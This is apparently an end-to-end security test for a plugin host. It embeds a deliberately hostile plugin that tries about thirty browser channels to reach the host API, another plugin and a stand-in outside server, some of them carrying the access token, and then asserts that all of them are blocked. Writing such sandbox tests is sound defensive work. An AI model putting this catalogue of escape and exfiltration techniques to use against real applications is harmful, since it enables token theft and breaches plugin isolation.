// An app written to get out, from the documents alone: its own code tries every road to the API, to other plugins and
// to the network, and the log of the server says what arrived (issue 8, accepted when 2; security P2, T2, T4, group D).

import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect } from 'vitest';
import { install, oneApp, openApp } from './app-plugins';
import { test } from './fixtures';

/** Every attempt carries its name in the path, so that the server's log can be searched for it. */
const HOSTILE = `
export async function mount({ container }) {
  const tried = [];
  const attempt = async (name, work) => {
    try {
      const value = await Promise.race([work(), new Promise((resolve) => setTimeout(resolve, 1500, 'silence'))]);
      tried.push(name + ': ' + String(value).slice(0, 60));
    } catch (error) {
      tried.push(name + ': ' + error.name);
    }
  };
  const settle = (target, good) => new Promise((resolve, reject) => {
    target.addEventListener(good, () => resolve('GOT ' + good));
    target.addEventListener('error', () => reject(new DOMException('x', 'NetworkError')));
  });
  const element = (name, set, good = 'load') => {
    const made = document.createElement(name);
    const done = settle(made, good);
    set(made);
    document.body.append(made);
    return done;
  };
  globalThis.attack = async ({ bases, token }) => {
    for (const [where, base] of Object.entries(bases)) {
      const to = (name) => base + '/api/v1/marker-' + where + '-' + name;
      const key = { Authorization: 'Bearer ' + token, 'Content-Type': 'application/json' };
      await attempt(where + ' fetch', () => fetch(to('fetch')).then((r) => 'GOT ' + r.status));
      await attempt(where + ' post', () => fetch(to('post'), { method: 'POST', headers: key, body: '{}' }).then((r) => 'GOT ' + r.status));
      await attempt(where + ' opaque', () => fetch(to('opaque'), { method: 'POST', mode: 'no-cors', body: '{}' }).then((r) => 'GOT ' + r.type));
      await attempt(where + ' keepalive', () => fetch(to('keepalive'), { method: 'POST', mode: 'no-cors', keepalive: true, body: '{}' }).then((r) => 'GOT ' + r.type));
      await attempt(where + ' beacon', async () => { navigator.sendBeacon(to('beacon'), '{}'); return 'sent or not'; });
      await attempt(where + ' xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = () => resolve('GOT ' + x.status); x.onerror = () => reject(new DOMException('x', 'NetworkError')); x.open('GET', to('xhr')); x.send(); }));
      await attempt(where + ' socket', () => settle(new WebSocket(to('socket').replace('http', 'ws'), ['chatos', token]), 'open'));
      await attempt(where + ' events', () => settle(new EventSource(to('events')), 'open'));
      await attempt(where + ' image', () => element('img', (e) => { e.src = to('image'); }));
      await attempt(where + ' script', () => element('script', (e) => { e.src = to('script'); }));
      await attempt(where + ' style', () => element('link', (e) => { e.rel = 'stylesheet'; e.href = to('style'); }));
      await attempt(where + ' video', () => element('video', (e) => { e.src = to('video'); e.load(); }, 'loadeddata'));
      await attempt(where + ' track', () => element('audio', (e) => { e.src = to('audio'); e.load(); }, 'loadeddata'));
      await attempt(where + ' object', () => element('object', (e) => { e.data = to('object'); }));
      await attempt(where + ' embed', () => element('embed', (e) => { e.src = to('embed'); }));
      await attempt(where + ' frame', async () => { element('iframe', (e) => { e.src = to('frame'); }); return 'asked'; });
      await attempt(where + ' srcdoc', async () => { element('iframe', (e) => { e.srcdoc = '<img src="' + to('srcdoc') + '">'; }); return 'asked'; });
      await attempt(where + ' svg', async () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to('svg') + '"/><use href="' + to('use') + '#a"/></svg>'); return 'asked'; });
      await attempt(where + ' css', async () => { document.head.insertAdjacentHTML('beforeend', '<style>@import url(' + to('import') + '); @font-face{font-family:m;src:url(' + to('font') + ')} body{background:url(' + to('background') + ');font-family:m;cursor:url(' + to('cursor') + '),auto}</style>'); return 'asked'; });
      for (const rel of ['prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'icon', 'manifest']) {
        await attempt(where + ' ' + rel, async () => { const link = document.createElement('link'); link.rel = rel; link.as = 'fetch'; link.href = to(rel); document.head.append(link); return 'asked'; });
      }
      await attempt(where + ' import', () => import(to('import-module')).then(() => 'GOT module'));
      await attempt(where + ' worker', () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + to('worker-fetch') + '").then((r) => postMessage("GOT " + r.status), (e) => postMessage(e.name)); try { importScripts("' + to('worker-import') + '") } catch {}'], { type: 'text/javascript' }))); w.onmessage = (m) => resolve(m.data); w.onerror = () => reject(new DOMException('x', 'NetworkError')); }));
      await attempt(where + ' shared worker', () => settle(new SharedWorker(to('shared-worker')), 'connect'));
      await attempt(where + ' form', async () => { const form = document.createElement('form'); form.action = to('form'); form.method = 'post'; form.target = 'elsewhere'; document.body.append(form); form.submit(); return 'asked'; });
      await attempt(where + ' parent form', async () => { const form = document.createElement('form'); form.action = to('form-top'); form.target = '_top'; document.body.append(form); form.submit(); return 'asked'; });
      await attempt(where + ' top', async () => { top.location.href = to('top'); return 'asked'; });
      await attempt(where + ' ping', async () => { const link = document.createElement('a'); link.href = '#x'; link.ping = to('ping'); document.body.append(link); link.click(); return 'asked'; });
      await attempt(where + ' report', async () => { new ReportingObserver(() => undefined).observe(); return 'asked'; });
    }
    // What drives this test counts as a person's gesture for five seconds, and the browser's own process counts a little
    // longer than the page; without a gesture there is no window.
    while (navigator.userActivation.isActive) await new Promise((resolve) => setTimeout(resolve, 50));
    await new Promise((resolve) => setTimeout(resolve, 1000));
    for (const [where, base] of Object.entries(bases)) {
      await attempt(where + ' window', async () => (navigator.userActivation.isActive ? 'GOT a gesture from nowhere' : String(open(base + '/api/v1/marker-' + where + '-window'))));
    }
    await new Promise((resolve) => setTimeout(resolve, 800));
    return tried;
  };
  container.textContent = 'hostile';
}`;

interface LogLine {
  message?: string;
  fields?: Record<string, unknown>;
  [name: string]: unknown;
}

describe.each(['plugin', 'fallback'] as const)('in the %s mode', (mode) => {
  test('whatever it tries, the server is asked for nothing but its own files', async ({ ownHost, open }) => {
    const first = await ownHost();
    await first.api('PUT', 'settings/logLevel', { value: 'debug' });
    await first.halt();
    const host = await ownHost({ home: first.home });
    const outsideHits: string[] = [];
    const outside = createServer((request, response) => {
      outsideHits.push(request.url ?? '');
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.end();
    });
    outside.on('upgrade', (request, socket) => {
      outsideHits.push(request.url ?? '');
      socket.destroy();
    });
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
    try {
      await install(host, oneApp('com.hostile.one', HOSTILE));
      await install(host, oneApp('com.hostile.victim', 'export function mount({ container }) { container.textContent = "victim"; }'));
      const page = await open({ at: '#/tasks', host, expectConsole: /./ });
      if (mode === 'fallback') await page.route('http://p-probe.localhost:*/**', (route) => route.abort());
      const victim = await openApp(page, 'com.hostile.victim');
      const victimBase = mode === 'plugin' ? new URL(victim.url()).origin : `${new URL(host.url).origin}/plugin-frame/${/p-([0-9a-f]{20})|plugin-frame\/([0-9a-f]{20})/.exec(victim.url())?.[2] ?? ''}`;
      const frame = await openApp(page, 'com.hostile.one');
      const bases = {
        api: new URL(host.url).origin,
        localhost: `http://localhost:${host.ready.port}`,
        victim: victimBase,
        outside: `http://127.0.0.1:${(outside.address() as AddressInfo).port}`,
      };
      const tried = await frame.evaluate((given) => (globalThis as unknown as { attack: (given: unknown) => Promise<string[]> }).attack(given), { bases, token: host.ready.token });
      expect(tried.length).toBeGreaterThan(130);
      expect(tried.filter((line) => line.includes('GOT '))).toEqual([]);
      expect(outsideHits).toEqual([]);
      const log = () => readFileSync(join(host.ready.stateDir, 'host-log.jsonl'), 'utf8').split('\n').filter((line) => line !== '').map((line) => JSON.parse(line) as LogLine);
      // The log is there and is of this host: the page's own requests are in it.
      await expect.poll(() => log().some((line) => JSON.stringify(line).includes('/api/v1/plugins'))).toBe(true);
      expect(log().filter((line) => JSON.stringify(line).includes('marker-')).map((line) => JSON.stringify(line))).toEqual([]);
      // The page is where it was, and works.
      expect(page.url()).toContain('#/apps/plugin/com.hostile.one/app');
      expect(await page.getByRole('navigation').first().isVisible()).toBe(true);
      expect(await victim.locator('#chatos-body').textContent()).toBe('victim');
    } finally {
      outside.closeAllConnections();
      await new Promise((resolve) => outside.close(resolve));
    }
  });
});

test('a real token and the frame’s origin together are refused by the server itself', async ({ host, open }) => {
  const id = await install(host, oneApp('com.hostile.origin', 'export function mount({ container }) { container.textContent = "x"; }'));
  const page = await open({ at: '#/tasks', expectConsole: /./ });
  const frame = await openApp(page, id);
  const origin = await frame.evaluate(() => self.origin);
  for (const from of [origin, 'null', 'http://localhost:1', `https://127.0.0.1:${host.ready.port}`]) {
    const answer = await fetch(new URL('/api/v1/status', host.url), { headers: { Authorization: `Bearer ${host.ready.token}`, Origin: from } });
    expect([from, answer.status]).toEqual([from, 403]);
  }
  const without = await fetch(new URL('/api/v1/status', host.url));
  expect(without.status).toBe(401);
});
